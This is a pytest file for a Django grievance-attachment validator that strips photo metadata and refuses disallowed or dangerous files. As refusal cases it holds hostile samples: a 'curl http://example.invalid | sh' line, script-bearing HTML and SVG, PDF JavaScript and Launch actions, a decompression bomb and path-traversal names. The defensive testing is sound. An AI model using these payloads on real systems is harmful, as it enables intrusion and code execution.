@@ -1,0 +1,756 @@
+"""Grievance attachments: only photos, PDFs and voice notes get in, and photos lose everything but pixels."""
+
+import dataclasses
+import hashlib
+import io
+import re
+import wave
+import zipfile
+import zlib
+
+import filetype
+import pytest
+from django.conf import settings
+from django.core.exceptions import ValidationError
+from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
+from django.test import override_settings
+from django.utils import translation
+from django.utils.functional import Promise
+from PIL import ExifTags, Image, ImageCms, ImageFile, PngImagePlugin
+
+from grievances import uploads
+from grievances.uploads import ProcessedFile, UploadPolicy, process_upload, validate_upload_count
+
+# Lets this file run on its own (pytest --noconftest -p no:django) before the app is installed.
+if not settings.configured:
+    settings.configure(USE_I18N=False, FILE_UPLOAD_MAX_MEMORY_SIZE=2621440)
+
+
+# Building test files -------------------------------------------------------------------------------
+
+
+def upload(content, name="file"):
+    return SimpleUploadedFile(name, content)
+
+
+def accept(content, name="file", policy=None):
+    return process_upload(upload(content, name), policy or UploadPolicy())
+
+
+def refusal(content, name="file", policy=None):
+    with pytest.raises(ValidationError) as caught:
+        process_upload(upload(content, name), policy or UploadPolicy())
+    return caught.value
+
+
+def encode(image, image_format, **options):
+    buffer = io.BytesIO()
+    image.save(buffer, image_format, **options)
+    return buffer.getvalue()
+
+
+def red_and_blue(size=(80, 40), mode="RGB"):
+    """Left half red, right half blue, so that a rotation shows."""
+    image = Image.new(mode, size, "red")
+    image.paste("blue", (size[0] // 2, 0, size[0], size[1]))
+    return image
+
+
+def phone_exif(orientation=None):
+    exif = Image.Exif()
+    exif[ExifTags.Base.Make] = "SamsungTestMake"
+    exif[ExifTags.Base.Model] = "GalaxyTestModel"
+    exif[ExifTags.Base.DateTime] = "2025:03:01 06:12:00"
+    if orientation:
+        exif[ExifTags.Base.Orientation] = orientation
+    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
+    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
+    gps[ExifTags.GPS.GPSLatitude] = (0.0, 31.0, 12.5)
+    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
+    gps[ExifTags.GPS.GPSLongitude] = (101.0, 26.0, 48.0)
+    return exif
+
+
+def phone_photo(orientation=None, size=(80, 40)):
+    return encode(
+        red_and_blue(size),
+        "JPEG",
+        exif=phone_exif(orientation),
+        xmp=b"<x:xmpmeta><rdf:Description>XmpSecretPlace</rdf:Description></x:xmpmeta>",
+        comment=b"CommentWorkerName",
+        icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes(),
+    )
+
+
+def heic_photo():
+    pillow_heif = pytest.importorskip("pillow_heif")
+    if not pillow_heif.libheif_info().get("HEIF"):
+        pytest.skip("libheif was built without an HEVC encoder")
+    return encode(red_and_blue((64, 48)), "HEIF", exif=phone_exif().tobytes())
+
+
+def small_png():
+    return encode(red_and_blue((8, 8)), "PNG")
+
+
+def pdf_stream(data, extra=b""):
+    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"
+
+
+def make_pdf(catalog_extra=b"", extra_objects=(), trailer_extra=b""):
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+        pdf_stream(b"BT /F1 12 Tf 72 720 Td (Slip gaji Maret) Tj ET"),
+        *extra_objects,
+    ]
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        trailer_extra,
+        xref,
+    )
+    return bytes(out)
+
+
+def ogg_crc(data):
+    crc = 0
+    for byte in data:
+        crc ^= byte << 24
+        for _bit in range(8):
+            crc = ((crc << 1) ^ 0x04C11DB7) if crc & 0x80000000 else crc << 1
+            crc &= 0xFFFFFFFF
+    return crc
+
+
+def ogg_page(payload, sequence, flags):
+    page = (
+        b"OggS\x00"
+        + bytes([flags])
+        + (0).to_bytes(8, "little")
+        + (0x4A415042).to_bytes(4, "little")
+        + sequence.to_bytes(4, "little")
+        + b"\0\0\0\0"
+        + bytes([1, len(payload)])
+        + payload
+    )
+    return page[:22] + ogg_crc(page).to_bytes(4, "little") + page[26:]
+
+
+def voice_note(first_packet=None):
+    """A minimal Ogg Opus file, as WhatsApp records them: OpusHead, OpusTags, one silent frame."""
+    head = first_packet or (
+        b"OpusHead\x01\x01" + (312).to_bytes(2, "little") + (48000).to_bytes(4, "little") + b"\0\0\0"
+    )
+    vendor = b"libopus test"
+    tags = b"OpusTags" + len(vendor).to_bytes(4, "little") + vendor + (0).to_bytes(4, "little")
+    return ogg_page(head, 0, 0x02) + ogg_page(tags, 1, 0) + ogg_page(b"\xf8\xff\xfe", 2, 0x04)
+
+
+def box(kind, payload):
+    return (8 + len(payload)).to_bytes(4) + kind + payload
+
+
+def iso_media(major_brand, handlers):
+    ftyp = box(b"ftyp", major_brand + (0).to_bytes(4) + major_brand + b"isom")
+    tracks = b"".join(
+        box(b"trak", box(b"mdia", box(b"hdlr", bytes(8) + handler + bytes(12) + b"\0")))
+        for handler in handlers
+    )
+    return ftyp + box(b"mdat", bytes(64)) + box(b"moov", tracks)
+
+
+def adts_frame(payload=bytes(20)):
+    length = 7 + len(payload)
+    return (
+        bytes(
+            [0xFF, 0xF1, 0x50, 0x80 | (length >> 11), (length >> 3) & 0xFF, ((length & 7) << 5) | 0x1F, 0xFC]
+        )
+        + payload
+    )
+
+
+def mp3_file():
+    frame = b"\xff\xfb\x90\x64" + bytes(413)
+    tag_body = b"TIT2" + (6).to_bytes(4) + b"\0\0\0Rapat"
+    return b"ID3\x04\x00\x00" + bytes([0, 0, 0, len(tag_body)]) + tag_body + frame * 3
+
+
+def wav_file():
+    buffer = io.BytesIO()
+    with wave.open(buffer, "wb") as recording:
+        recording.setnchannels(1)
+        recording.setsampwidth(2)
+        recording.setframerate(8000)
+        recording.writeframes(bytes(1600))
+    return buffer.getvalue()
+
+
+class CountingFile(io.BytesIO):
+    def __init__(self, data):
+        super().__init__(data)
+        self.bytes_read = 0
+
+    def read(self, size=-1):
+        chunk = super().read(size)
+        self.bytes_read += len(chunk)
+        return chunk
+
+
+# Photos lose their metadata ------------------------------------------------------------------------
+
+
+def test_phone_photo_is_stored_without_exif_gps_or_other_metadata():
+    original = phone_photo()
+    with Image.open(io.BytesIO(original)) as sent:
+        assert sent.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test photo really carries GPS
+
+    processed = accept(original, "IMG_20250301_061200.jpg")
+
+    assert processed.kind == "image"
+    assert processed.content_type == "image/jpeg"
+    assert processed.extension == ".jpg"
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert stored.format == "JPEG"
+        assert len(stored.getexif()) == 0
+        assert stored.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
+        assert not {"exif", "xmp", "comment", "icc_profile"} & set(stored.info)
+    for secret in (b"Exif", b"GalaxyTestModel", b"SamsungTestMake", b"XmpSecretPlace", b"CommentWorkerName"):
+        assert secret not in processed.content
+
+
+def test_hash_and_sizes_describe_the_original_upload():
+    original = phone_photo()
+    processed = accept(original, "foto.jpg")
+
+    assert processed.sha256 == hashlib.sha256(original).hexdigest()
+    assert processed.sha256 != hashlib.sha256(processed.content).hexdigest()
+    assert processed.original_size == len(original)
+    assert processed.size == len(processed.content)
+
+
+def test_exif_orientation_is_applied_to_the_pixels():
+    # Orientation 6: the phone was held upright, the sensor wrote the picture lying on its side.
+    processed = accept(phone_photo(orientation=6, size=(80, 40)), "foto.jpg")
+
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert stored.size == (40, 80)
+        top, bottom = stored.getpixel((20, 10)), stored.getpixel((20, 70))
+    assert top[0] > 200 and top[2] < 60  # the left (red) half is now on top
+    assert bottom[2] > 200 and bottom[0] < 60
+
+
+def test_png_stays_png_and_loses_text_chunks():
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Author", "BudiSantosoAuthor")
+    info.add_text("Comment", "KebunSawitComment")
+    original = encode(red_and_blue((30, 20), "RGBA"), "PNG", pnginfo=info)
+
+    processed = accept(original, "screenshot.png")
+
+    assert (processed.content_type, processed.extension) == ("image/png", ".png")
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert stored.format == "PNG"
+        assert stored.mode == "RGBA"
+        assert stored.text == {}
+    assert b"BudiSantoso" not in processed.content
+    assert b"KebunSawit" not in processed.content
+
+
+def test_webp_stays_webp_without_exif():
+    original = encode(red_and_blue(), "WEBP", exif=phone_exif())
+    assert b"GalaxyTestModel" in original
+
+    processed = accept(original, "foto.webp")
+
+    assert (processed.content_type, processed.extension) == ("image/webp", ".webp")
+    assert b"GalaxyTestModel" not in processed.content
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert len(stored.getexif()) == 0
+
+
+def test_animated_image_keeps_only_its_first_frame():
+    frames = [Image.new("RGB", (20, 20), "red"), Image.new("RGB", (20, 20), "blue")]
+    original = encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=200, lossless=True)
+
+    processed = accept(original, "stiker.webp")
+
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert getattr(stored, "n_frames", 1) == 1
+        red, green, blue = stored.convert("RGB").getpixel((10, 10))
+    assert red > 200 and blue < 60
+
+
+def test_motion_photo_loses_the_video_appended_to_it():
+    # Some Android cameras append a short MP4 of the surroundings after the JPEG data.
+    original = (
+        phone_photo() + box(b"ftyp", b"mp42" + bytes(4) + b"isom") + box(b"mdat", b"VideoOfTheYard" * 50)
+    )
+
+    processed = accept(original, "MVIMG_20250301.jpg")
+
+    assert processed.content_type == "image/jpeg"
+    assert b"ftyp" not in processed.content
+    assert b"VideoOfTheYard" not in processed.content
+
+
+def test_multi_picture_jpeg_keeps_only_the_main_picture():
+    main, depth_map = Image.new("RGB", (50, 40), "red"), Image.new("RGB", (50, 40), "blue")
+    original = encode(main, "MPO", save_all=True, append_images=[depth_map])
+
+    processed = accept(original, "portrait.jpg")
+
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert stored.format == "JPEG"
+        assert getattr(stored, "n_frames", 1) == 1
+        red, green, blue = stored.getpixel((5, 5))
+    assert red > 200 and blue < 60
+
+
+def test_heic_photo_is_converted_to_jpeg_without_metadata():
+    original = heic_photo()
+    assert filetype.guess(original).mime == "image/heic"
+
+    processed = accept(original, "IMG_0042.HEIC")
+
+    assert (processed.kind, processed.content_type, processed.extension) == ("image", "image/jpeg", ".jpg")
+    assert b"GalaxyTestModel" not in processed.content
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert stored.format == "JPEG"
+        assert stored.size == (64, 48)
+        assert len(stored.getexif()) == 0
+
+
+def test_large_photo_is_scaled_down_to_3000_pixels_on_the_long_side():
+    processed = accept(encode(Image.new("RGB", (4000, 1000), "green"), "JPEG"), "panorama.jpg")
+
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert stored.size == (3000, 750)
+
+
+def test_sixteen_bit_greyscale_is_scaled_not_clipped_to_white():
+    original = encode(Image.new("I;16", (10, 10), 32768), "PNG")
+
+    processed = accept(original, "scan.png")
+
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert stored.mode == "L"
+        assert 120 <= stored.getpixel((5, 5)) <= 135
+
+
+def test_transparent_image_becomes_white_behind_when_stored_as_jpeg():
+    # CMYK and palette images are common in forwarded documents; they all end up as plain RGB.
+    processed = accept(encode(Image.new("CMYK", (10, 10), (0, 255, 255, 0)), "JPEG"), "cmyk.jpg")
+    with Image.open(io.BytesIO(processed.content)) as stored:
+        assert stored.mode == "RGB"
+        red, green, blue = stored.getpixel((5, 5))
+    assert red > 200 and green < 60 and blue < 60
+
+
+def test_decompression_bomb_is_refused_before_decoding():
+    # 48 megapixels of a single colour compress to a few kilobytes.
+    original = encode(Image.new("1", (8000, 6000)), "PNG")
+    assert len(original) < 100_000
+
+    error = refusal(original, "bom.png")
+
+    assert error.code == "image_too_large"
+
+
+def test_pixel_limit_comes_from_the_policy():
+    error = refusal(small_png(), "foto.png", UploadPolicy(max_pixels=50))
+
+    assert error.code == "image_too_large"
+
+
+@pytest.mark.parametrize(
+    ("content", "name"),
+    [
+        (phone_photo()[: len(phone_photo()) // 2], "terpotong.jpg"),
+        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x13\x37" * 200, "rusak.jpg"),
+        (small_png()[:-5], "tanpa-akhir.png"),
+        (small_png()[:40], "terpotong.png"),
+    ],
+    ids=["truncated-jpeg", "garbage-jpeg", "png-without-iend", "truncated-png"],
+)
+def test_damaged_image_is_refused_as_corrupt(content, name):
+    assert refusal(content, name).code == "corrupt"
+
+
+@pytest.mark.parametrize("make_photo", [phone_photo, small_png, heic_photo], ids=["jpeg", "png", "heic"])
+def test_cut_off_photo_is_refused_even_if_pillow_is_told_to_load_truncated_images(monkeypatch, make_photo):
+    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
+    photo = make_photo()
+
+    assert refusal(photo[:-5], "terpotong").code == "corrupt"
+
+
+# Only accepted types get in ------------------------------------------------------------------------
+
+HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'
+
+
+@pytest.mark.parametrize(
+    ("content", "name"),
+    [
+        (HTML, "foto.jpg"),
+        (b"\xef\xbb\xbf \r\n\t<HTML><p>hi</p></HTML>", "foto.jpg"),
+        ("<html><script>alert(1)</script></html>".encode("utf-16"), "foto.jpg"),
+        (b"<script>alert(document.cookie)</script>", "bukti"),
+        (SVG, "logo.svg"),
+        (b'<?xml version="1.0"?>\n' + SVG, "logo.png"),
+        (
+            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200) + b"This program cannot be run in DOS mode",
+            "foto.jpg",
+        ),
+        (b"\x7fELF\x02\x01\x01\x00" + bytes(200), "slip-gaji"),
+        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(200), "rekaman.m4a"),
+        (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "voice.amr"),
+        (b"%!PS-Adobe-3.0\n%%EndComments\n", "dokumen"),
+        (b"Saya dipecat tanpa surat.\n", "cerita.txt"),
+        (encode(Image.new("RGB", (10, 10)), "GIF"), "animasi.gif"),
+        (encode(Image.new("RGB", (10, 10)), "BMP"), "foto.bmp"),
+        (encode(Image.new("RGB", (10, 10)), "TIFF"), "scan.tiff"),
+        (b"\xef\xbb\xbf" + make_pdf(), "surat"),
+        (voice_note(b"\x80theora" + bytes(40)), "video.ogg"),
+        (iso_media(b"isom", [b"vide", b"soun"]), "video.mp4"),
+        (iso_media(b"M4A ", []), "kosong.m4a"),
+        (b"\xff\xf1\x50\x80\x00\x1f\xfc" + b"A" * 100, "suara.aac"),
+        (b"RIFF\x24\x00\x00\x00WAVEdata\x00\x00\x00\x00", "suara.wav"),
+        (bytes(range(256)) * 4, "acak"),
+    ],
+    ids=[
+        "html-as-jpg",
+        "html-after-bom-and-spaces",
+        "utf16-html",
+        "bare-script",
+        "svg",
+        "xml-svg-as-png",
+        "windows-exe-as-jpg",
+        "elf",
+        "mach-o",
+        "shell-script",
+        "postscript",
+        "plain-text",
+        "gif",
+        "bmp",
+        "tiff",
+        "pdf-behind-bom",
+        "ogg-video",
+        "mp4-video",
+        "mp4-without-tracks",
+        "two-bytes-of-aac",
+        "wav-without-format",
+        "random-bytes",
+    ],
+)
+def test_content_of_a_type_we_do_not_accept_is_refused(content, name):
+    assert refusal(content, name).code == "type_not_allowed"
+
+
+def test_office_document_is_refused():
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<w:document/>")
+
+    assert refusal(buffer.getvalue(), "surat.docx").code == "type_not_allowed"
+
+
+@pytest.mark.parametrize(
+    ("content", "name"),
+    [
+        (small_png(), "slip-gaji.pdf"),
+        (make_pdf(), "foto.jpg"),
+        (phone_photo(), "pesan-suara.ogg"),
+        (voice_note(), "foto.jpeg"),
+        (mp3_file(), "surat.PDF"),
+        (make_pdf(), "report.mp3. "),
+    ],
+    ids=[
+        "png-named-pdf",
+        "pdf-named-jpg",
+        "jpeg-named-ogg",
+        "ogg-named-jpeg",
+        "mp3-named-pdf",
+        "trailing-dot",
+    ],
+)
+def test_content_contradicting_the_file_name_is_refused(content, name):
+    assert refusal(content, name).code == "type_mismatch"
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "extension"),
+    [
+        (phone_photo(), "foto.png", ".jpg"),  # same family: a photo is a photo
+        (small_png(), "bukti.bin", ".png"),  # unknown extension: content decides
+        (small_png(), "bukti", ".png"),
+        (voice_note(), "PTT-20250301-WA0003.opus", ".opus"),
+        (voice_note(), "rekaman.m4a", ".opus"),
+    ],
+)
+def test_name_only_matters_when_it_claims_another_family(content, name, extension):
+    assert accept(content, name).extension == extension
+
+
+# Audio and PDF are kept as they are -----------------------------------------------------------------
+
+
+def test_whatsapp_voice_note_is_accepted_unchanged():
+    note = voice_note()
+    assert filetype.guess(note).mime == "audio/ogg"
+
+    processed = accept(note, "PTT-20250301-WA0003.opus")
+
+    assert processed.content == note
+    assert (processed.kind, processed.content_type, processed.extension) == ("audio", "audio/ogg", ".opus")
+    assert processed.sha256 == hashlib.sha256(note).hexdigest()
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "content_type", "extension"),
+    [
+        (voice_note(b"\x01vorbis" + bytes(23)), "rekaman.ogg", "audio/ogg", ".ogg"),
+        (iso_media(b"M4A ", [b"soun"]), "Rekaman Suara 001.m4a", "audio/mp4", ".m4a"),
+        (iso_media(b"isom", [b"soun", b"text"]), "rekaman.mp4", "audio/mp4", ".m4a"),
+        (iso_media(b"3gp4", [b"soun"]), "Voice 001.3ga", "audio/3gpp", ".3gp"),
+        (mp3_file(), "rapat.mp3", "audio/mpeg", ".mp3"),
+        (adts_frame() * 3, "rekaman.aac", "audio/aac", ".aac"),
+        (b"#!AMR\n" + (b"\x3c" + bytes(31)) * 5, "voice.amr", "audio/amr", ".amr"),
+        (b"#!AMR-WB\n" + (b"\x04" + bytes(32)) * 5, "voice.awb", "audio/amr-wb", ".awb"),
+        (wav_file(), "rekaman.wav", "audio/wav", ".wav"),
+    ],
+    ids=["ogg-vorbis", "m4a", "audio-only-mp4", "3gp", "mp3", "aac", "amr", "amr-wb", "wav"],
+)
+def test_voice_recordings_are_accepted_unchanged(content, name, content_type, extension):
+    processed = accept(content, name)
+
+    assert processed.kind == "audio"
+    assert (processed.content_type, processed.extension) == (content_type, extension)
+    assert processed.content == content
+
+
+def test_normal_pdf_is_accepted_unchanged():
+    document = make_pdf(trailer_extra=b"/Info << /Title (Surat PHK /JS bukan nama) >> ")
+
+    processed = accept(document, "Surat PHK.pdf")
+
+    assert processed.content == document
+    assert (processed.kind, processed.content_type, processed.extension) == ("pdf", "application/pdf", ".pdf")
+    assert processed.size == processed.original_size == len(document)
+
+
+def test_pdf_whose_image_data_happens_to_contain_js_bytes_is_accepted():
+    picture = pdf_stream(b"\x00\x81/JS \xfe(\xff/XFA>>" * 50, b"/Type /XObject /Subtype /Image ")
+
+    assert accept(make_pdf(extra_objects=[picture]), "scan.pdf").kind == "pdf"
+
+
+@pytest.mark.parametrize(
+    ("catalog_extra", "extra_objects"),
+    [
+        (b"/OpenAction << /S /JavaScript /JS (app.alert('x')) >>", []),
+        (b"/OpenAction << /S /J#61vaScript /J#53 (app.alert('x')) >>", []),
+        (b"/AA << /O << /JS (this.submitForm('http://example.invalid')) >> >>", []),
+        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", []),
+        (b"/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>", []),
+        (b"/AcroForm << /XFA 9 0 R >>", []),
+        # A viewer repairing a damaged file may read objects out of stream data.
+        (b"", [pdf_stream(b"9 0 obj << /S /JavaScript /JS (x) >> endobj")]),
+        # A "stream" keyword inside a string must not hide what follows it.
+        (b"", [b"(<< /Length 5 >> stream\n) << /OpenAction << /JS (app.alert(1)) >> >> (endstream)"]),
+        # Nor may a comment between a dictionary and its stream.
+        (b"", [b"<< /Length 1 >> % made by hand\nstream\n(\nendstream", b"<< /JS (app.alert(1)) >>"]),
+        # Nor may "<<" inside a hex string throw off which dictionary a stream belongs to.
+        (b"", [b"<< /Title <4142<<43> >>\n" + pdf_stream(b"(", b"/Subtype /Image ") + b" << /JS (x) >> )"]),
+    ],
+    ids=[
+        "javascript",
+        "escaped-names",
+        "js-action",
+        "launch",
+        "embedded-file",
+        "xfa",
+        "in-stream-data",
+        "fake-stream",
+        "comment",
+        "hex",
+    ],
+)
+def test_pdf_with_active_content_is_refused(catalog_extra, extra_objects):
+    document = make_pdf(catalog_extra, extra_objects)
+
+    assert refusal(document, "surat.pdf").code == "pdf_active_content"
+
+
+def test_pdf_with_javascript_hidden_in_a_compressed_object_stream_is_refused():
+    objects = b"5 0 << /JS (app.alert(1)) >>"
+    hidden = pdf_stream(zlib.compress(objects), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ")
+    document = make_pdf(b"/OpenAction 5 0 R", extra_objects=[hidden])
+    assert b"/JS" not in document.split(b"/ObjStm", 1)[1]
+
+    assert refusal(document, "surat.pdf").code == "pdf_active_content"
+
+
+def test_pdf_with_an_object_stream_we_cannot_read_is_refused():
+    # What an encrypted object stream looks like from outside: bytes that do not inflate.
+    unreadable = pdf_stream(b"\x13\x37" * 50, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ")
+
+    assert refusal(make_pdf(extra_objects=[unreadable]), "surat.pdf").code == "pdf_unreadable"
+
+
+def test_pdf_object_streams_are_inflated_only_up_to_a_limit(monkeypatch):
+    monkeypatch.setattr(uploads, "_PDF_MAX_INFLATED_BYTES", 1000)
+    big = pdf_stream(zlib.compress(b"5 0 << >> " * 500), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ")
+
+    assert refusal(make_pdf(extra_objects=[big]), "surat.pdf").code == "pdf_unreadable"
+
+
+def test_truncated_pdf_is_refused():
+    document = make_pdf()
+
+    assert refusal(document[: len(document) // 2], "surat.pdf").code == "corrupt"
+
+
+# Size and count ------------------------------------------------------------------------------------
+
+
+def test_empty_file_is_refused():
+    assert refusal(b"", "foto.jpg").code == "empty"
+
+
+def test_file_over_the_limit_is_refused_without_being_read():
+    spy = CountingFile(bytes(10_000))
+    uploaded = UploadedFile(spy, name="video.jpg", content_type="image/jpeg", size=10_000)
+
+    with pytest.raises(ValidationError) as caught:
+        process_upload(uploaded, UploadPolicy(max_bytes=1000))
+
+    assert caught.value.code == "too_large"
+    assert spy.bytes_read == 0
+
+
+def test_file_lying_about_its_size_is_read_only_up_to_the_limit():
+    spy = CountingFile(bytes(10_000))
+    uploaded = UploadedFile(spy, name="video.jpg", content_type="image/jpeg", size=10)
+
+    with pytest.raises(ValidationError) as caught:
+        process_upload(uploaded, UploadPolicy(max_bytes=1000))
+
+    assert caught.value.code == "too_large"
+    assert spy.bytes_read == 1001
+
+
+def test_file_exactly_at_the_limit_is_accepted():
+    note = voice_note()
+
+    assert accept(note, "suara.opus", UploadPolicy(max_bytes=len(note))).content == note
+
+
+def test_file_already_read_by_someone_else_is_read_from_the_start():
+    uploaded = upload(voice_note(), "suara.opus")
+    uploaded.read(10)
+
+    assert process_upload(uploaded, UploadPolicy()).content == voice_note()
+
+
+def test_six_files_are_too_many():
+    files = [upload(small_png(), f"foto{number}.png") for number in range(6)]
+
+    with pytest.raises(ValidationError) as caught:
+        validate_upload_count(files, UploadPolicy())
+
+    assert caught.value.code == "too_many_files"
+    assert caught.value.params == {"max": 5}
+    with translation.override("en"):
+        assert caught.value.messages == ["You can attach at most 5 files."]
+    validate_upload_count(files[:5], UploadPolicy())
+    validate_upload_count([], UploadPolicy())
+
+
+def test_policy_reads_the_settings():
+    with override_settings(GRIEVANCE_UPLOAD_MAX_FILES=2, GRIEVANCE_UPLOAD_MAX_BYTES=1234):
+        policy = UploadPolicy.from_settings()
+
+    assert (policy.max_files, policy.max_bytes) == (2, 1234)
+    with pytest.raises(ValidationError):
+        validate_upload_count([1, 2, 3], policy)
+
+
+# Names ---------------------------------------------------------------------------------------------
+
+
+def test_storage_name_is_random_and_reveals_nothing_of_the_original_name():
+    processed = accept(phone_photo(), "Budi Santoso PHK kebun 7.jpg")
+
+    first, second = processed.storage_name(), processed.storage_name()
+
+    assert first != second
+    assert re.fullmatch(r"[0-9a-f]{32}\.jpg", first)
+    assert "Budi" not in first and "PHK" not in first
+    assert "Budi" not in repr(processed)
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [
+        ("../../etc/passwd", "passwd"),
+        ("C:\\Users\\budi\\Pictures\\bukti.png", "bukti.png"),
+        ("bu\x00kti\x1b[31m\r\n.png", "bukti[31m.png"),
+        ("slip\u202egnp.exe", "slipgnp.exe"),
+        ("foto\u00a0 \u3000kebun\u2028.png", "foto kebun.png"),
+        ("\x1b\x00\u200f", ""),
+        ("a" * 300 + ".png", "a" * 96 + ".png"),
+    ],
+)
+def test_original_name_is_reduced_to_a_safe_display_form(name, expected):
+    assert accept(small_png(), name).original_name == expected
+
+
+def test_processed_file_cannot_be_changed():
+    processed = accept(small_png(), "bukti.png")
+
+    with pytest.raises(dataclasses.FrozenInstanceError):
+        processed.content = b"other"
+    assert isinstance(processed, ProcessedFile)
+
+
+# Messages ------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "code", "policy"),
+    [
+        (b"", "kosong.jpg", "empty", None),
+        (bytes(2000), "besar.jpg", "too_large", UploadPolicy(max_bytes=1000)),
+        (HTML, "halaman.jpg", "type_not_allowed", None),
+        (small_png(), "slip.pdf", "type_mismatch", None),
+        (small_png(), "besar.png", "image_too_large", UploadPolicy(max_pixels=10)),
+        (small_png()[:40], "rusak.png", "corrupt", None),
+        (make_pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), "surat.pdf", "pdf_active_content", None),
+    ],
+)
+def test_refusals_have_a_code_and_a_translatable_message_naming_the_file(content, name, code, policy):
+    error = refusal(content, name, policy)
+
+    assert error.code == code
+    assert isinstance(error.message, Promise)
+    with translation.override("en"):
+        assert name in error.messages[0]
+
+
+def test_refusal_of_a_nameless_file_still_reads_well():
+    error = refusal(b"", "\x00\x1b")
+
+    with translation.override("en"):
+        assert "unnamed file" in error.messages[0]
